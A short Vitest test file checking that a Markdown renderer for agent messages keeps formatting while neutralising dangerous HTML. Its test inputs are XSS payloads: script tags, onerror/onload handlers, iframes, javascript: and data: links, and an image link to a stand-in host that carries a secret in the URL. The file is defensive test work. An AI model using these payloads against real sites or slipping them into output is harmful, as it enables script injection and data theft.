import { describe, expect, it } from "vitest";
import { toHtml } from "./Markdown";

describe("words of an agent", () => {
  it("keep their markup", () => expect(toHtml("**bold** and `code`")).toContain("<strong>bold</strong>"));
  it.each([
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](https://evil.example/p.png?secret)",
    "[go](javascript:alert(1))", "<iframe src='https://evil.example'></iframe>", "<svg onload=alert(1)>", "<a href='data:text/html,x'>x</a>",
  ])("cannot act: %s", (text) => {
    const holder = document.createElement("div");
    holder.innerHTML = toHtml(text);
    expect(holder.querySelector("script, img, iframe, svg, [onerror], [onload], [style]")).toBeNull();
    for (const link of holder.querySelectorAll("a")) expect(link.getAttribute("href") ?? "").not.toMatch(/^(javascript|data):/);
  });
  it("show controls that turn text around", () => expect(toHtml("rm \u202e gpj")).toContain("⟨U+202E⟩"));
});
